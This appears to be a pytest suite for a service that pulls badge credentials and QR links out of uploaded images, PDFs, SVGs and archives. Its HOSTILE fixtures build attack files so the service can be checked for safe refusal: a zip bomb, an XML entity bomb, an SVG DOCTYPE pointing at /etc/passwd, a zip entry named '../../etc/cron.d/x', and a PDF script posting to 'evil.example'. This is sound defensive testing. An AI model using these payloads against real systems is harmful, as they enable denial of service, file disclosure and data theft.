"""A credential comes out of every file that may carry one as it went in; hostile files end with a sentence, in time."""

import io
import json
import struct
import threading
import time
import zipfile
import zlib

import pytest
import segno
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from services.portfolio.carriers import open_files, png, svg
from services.portfolio.carriers.decoding import REFUSALS
from services.portfolio.carriers.kinds import BROKEN, NOTHING, SEVERAL, TOO_LONG
from services.portfolio.carriers.piles import LOCKED, TOO_BIG, TOO_MANY
from shared.errors import Unavailable

pytestmark = pytest.mark.slow

LINK = "https://shixun.example/portfolio/verify/01890000-0000-7000-8000-0000000000cc"
JSON = json.dumps({"id": "urn:x", "name": "车门锁 ]]> <svg> & 'quoted'"}, ensure_ascii=False)
JWT = "eyJhbGciOiJFZERTQSJ9.eyJpZCI6IngifQ.c2ln"
DRAWING = '<svg viewBox="0 0 9 9" xmlns="http://www.w3.org/2000/svg"><path d="M 0 0"/></svg>'
TEN_SECONDS = 10


def picture(size=(60, 60), form="PNG", mode="RGB"):
    out = io.BytesIO()
    Image.new(mode, size, 1).save(out, form)
    return out.getvalue()


def photograph(text=LINK, form="JPEG", turned=8):
    """Of a QR code, held a little askew."""
    out = io.BytesIO()
    segno.make(text, error="m", micro=False).save(out, kind="png", scale=6)
    code = Image.open(out).convert("L")
    seen = Image.new("L", (code.width + 300, code.height + 200), 200)
    seen.paste(code, (140, 90))
    shot = io.BytesIO()
    seen.rotate(turned, fillcolor=200).convert("RGB").save(shot, form, quality=70)
    return shot.getvalue()


def pdf(attached=(), script=False, password=None):
    writer = PdfWriter()
    writer.add_blank_page(100, 100)
    for name, content in attached:
        writer.add_attachment(name, content)
    if script:
        program = TextStringObject("app.alert('x'); this.submitForm('https://evil.example')")
        action = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): program}
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(action)
    if password:
        writer.encrypt(password)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def archive(members, password=False):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in members:
            made.writestr(name, content)
    data = out.getvalue()
    if password:  # the flag of the first member, in both of its heads
        data = bytearray(data)
        data[6] |= 1
        data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def texts(*files):
    return [found.text or found.wrong.message for found in open_files([("file", one) for one in files])]


@pytest.mark.parametrize("credential", [JSON, JWT])
def test_a_badge_gives_back_what_was_baked_into_it(credential):
    assert texts(png.bake(picture(), credential)) == [credential]
    assert texts(svg.bake(DRAWING, credential).encode()) == [credential]


def test_a_baked_picture_is_still_a_picture():
    Image.open(io.BytesIO(png.bake(picture(), JSON))).load()


def test_a_picture_of_a_qr_code_says_its_link():
    assert texts(photograph(), photograph(form="PNG"), photograph(form="WEBP", turned=-20)) == [LINK] * 3


def test_a_pdf_carries_credentials_as_attachments():
    assert texts(pdf([("a.json", JSON.encode()), ("notes.txt", b"no")])) == [JSON]
    assert texts(pdf([("a.json", JSON.encode()), ("b.jwt", JWT.encode())])) == [JSON, JWT]
    assert texts(pdf([("a.json", JSON.encode())], script=True)) == [JSON]


def test_a_scanned_pdf_is_read_by_its_picture():
    out = io.BytesIO()
    Image.open(io.BytesIO(photograph())).save(out, "PDF")
    assert texts(out.getvalue()) == [LINK]


def test_an_archive_and_a_table_are_lists():
    inside = [
        ("a/b.json", JSON),
        ("c.png", png.bake(picture(), JWT)),
        ("__MACOSX/._c.png", b"x"),
        ("d/", b""),
    ]
    assert [(one.name, one.text) for one in open_files([("all.zip", archive(inside))])] == [
        ("a/b.json", JSON),
        ("c.png", JWT),
    ]
    assert texts(f"姓名,链接\n林梅,{LINK}\n赵航;{LINK}?x=1\n".encode()) == [LINK, f"{LINK}?x=1"]


def test_several_files_stay_in_their_order():
    assert texts(JSON.encode(), photograph(), JWT.encode(), b"hello", pdf([("a.jwt", JWT.encode())])) == [
        JSON,
        LINK,
        JWT,
        NOTHING,
        JWT,
    ]


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def with_chunk(*chunks):
    plain = picture()
    return plain[:33] + b"".join(chunks) + plain[33:]


def twice_in_svg():
    element = "<openbadges:credential"
    made = svg.bake(DRAWING, JWT)
    return made.replace(element, f'{element} verify="{JWT}"/>{element}', 1)


def entity_bomb():
    steps = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a0 "x">{steps}]><svg>&a9;</svg>'.encode()


def zip_bomb():
    """A few hundred kilobytes that would be 400 MB."""
    return archive([(f"{n}.json", b"{" + b" " * (40 << 20)) for n in range(10)])


def damaged_lzma():
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_LZMA) as opened:
        opened.writestr("a.json", JSON * 50)
    whole = bytearray(made.getvalue())
    begins = 30 + len("a.json") + 9  # after the header, the name and LZMA's own head
    whole[begins : begins + 40] = b"\xff" * 40
    return bytes(whole)


BAKED = chunk(b"iTXt", b"openbadgecredential\0\0\0\0\0" + JWT.encode())
PACKED = chunk(b"zTXt", b"openbadgecredential\0\0" + zlib.compress(b"{" + b" " * (8 << 20)))
HOSTILE = {
    "a picture of 10,000 by 10,000": (lambda: picture((10_000, 10_000), mode="1"), REFUSALS["too_many_pixels"]),
    "a picture that says it is larger still": (
        lambda: picture()[:16] + struct.pack(">II", 2**31 - 1, 2**31 - 1) + picture()[24:],
        BROKEN,
    ),
    "a zip that unpacks to 400 MB": (zip_bomb, TOO_BIG),
    "a zip in a zip": (lambda: archive([("in.zip", archive([("a.json", JSON)]))]), NOTHING),
    "a locked zip": (lambda: archive([("a.json", JSON)], password=True), LOCKED),
    "a zip of 101 files": (lambda: archive([(f"{n}.json", JSON) for n in range(101)]), TOO_MANY),
    "half a zip": (lambda: archive([("a.json", JSON)])[:60], BROKEN),
    "half a png": (lambda: png.bake(picture(), JSON)[:120], BROKEN),
    "half a jpeg": (lambda: photograph()[:2000], BROKEN),
    "half a pdf": (lambda: pdf([("a.json", JSON.encode())])[:400], BROKEN),
    "a pdf that points to itself": (
        lambda: b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]>>endobj\ntrailer<</Root 1 0 R>>", BROKEN,
    ),
    "a pdf with a password": (lambda: pdf(password="secret"), REFUSALS["locked"]),
    "a pdf with nothing but a script": (lambda: pdf(script=True), NOTHING),
    "a png with a false checksum": (lambda: with_chunk(BAKED[:-1] + b"\0"), BROKEN),
    "two credentials in one png": (lambda: with_chunk(BAKED, BAKED), SEVERAL),
    "a packed credential in a png": (lambda: with_chunk(PACKED), BROKEN),
    "a credential beyond 64 KB in a png": (lambda: png.bake(picture(), "{" + "x" * 70_000), TOO_LONG),
    "a credential beyond 64 KB in an svg": (lambda: svg.bake(DRAWING, "{" + "x" * 70_000).encode(), TOO_LONG),
    "two credentials in one svg": (lambda: twice_in_svg().encode(), SEVERAL),
    "one name twice in an svg": (lambda: svg.bake(svg.bake(DRAWING, JSON), JWT).encode(), BROKEN),
    "entities in entities": (entity_bomb, BROKEN),
    "a foreign document type": (
        lambda: b'<!DOCTYPE svg SYSTEM "file:///etc/passwd"><svg/>', NOTHING,
    ),
    "an svg nested 5,000 deep": (lambda: b"<svg>" * 5000, BROKEN),
    "a page that calls itself a picture": (lambda: b"<!doctype html><script>alert(1)</script>", NOTHING),
    "a picture that is a zip as well": (lambda: picture() + archive([("a.json", JSON)]), NOTHING),
    "a pdf that begins later": (lambda: b"junk\n" + pdf([("a.json", JSON.encode())]), NOTHING),
    "a name that leads away": (lambda: archive([("../../etc/cron.d/x", b"hello")]), NOTHING),
    "a zip of a rare packing, damaged": (damaged_lzma, BROKEN),
    "nothing": (lambda: b"", NOTHING),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_ends_with_a_sentence(name):
    made, expected = HOSTILE[name]
    data, begun = made(), time.monotonic()
    assert texts(data) == [expected]
    assert time.monotonic() - begun < TEN_SECONDS


def test_fifty_hostile_files_at_once_are_all_answered_and_hold_nobody_up():
    """Two are read, two wait, the others hear at once that there is no room; a credential as text needs none."""
    poison = picture((5000, 5000), mode="L")
    begun, answers = time.monotonic(), []

    def send():
        try:
            answers.append(open_files([("poison.png", poison)]))
        except Unavailable:
            answers.append(None)

    senders = [threading.Thread(target=send) for _ in range(50)]
    for one in senders:
        one.start()
    good = time.monotonic()
    assert texts(JSON.encode()) == [JSON]
    assert time.monotonic() - good < 1
    for one in senders:
        one.join(TEN_SECONDS)
    assert time.monotonic() - begun < TEN_SECONDS
    assert len(answers) == 50
    assert answers.count(None) >= 30


def test_one_bad_file_does_not_take_the_others_with_it(monkeypatch):
    """A picture that keeps the decoder busy beyond its time ends the process; the next one begins behind it."""
    monkeypatch.setattr("services.portfolio.carriers.decoding.LIMIT_SECONDS", 6.0)
    slow = pdf_of_many_streams()
    found = texts(photograph(), slow, photograph())
    assert (found[0], found[2]) == (LINK, LINK)
    assert found[1] in (BROKEN, NOTHING)


def pdf_of_many_streams():
    """Pages whose one picture is unpacked through thirty filters in a row."""
    content = b"\0" * 3_000_000
    for _ in range(30):
        content = zlib.compress(content)
    filters = b"/FlateDecode " * 30
    image = b"5 0 obj<</Type/XObject/Subtype/Image/Width 1000/Height 3000/BitsPerComponent 8/ColorSpace/DeviceGray"
    body = b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    body += b"3 0 obj<</Type/Page/Parent 2 0 R/Resources<</XObject<</I 5 0 R>>>>>>endobj\n" + image
    body += b"/Filter[" + filters + b"]/Length " + str(len(content)).encode() + b">>stream\n" + content
    return body + b"\nendstream endobj\ntrailer<</Root 1 0 R>>"
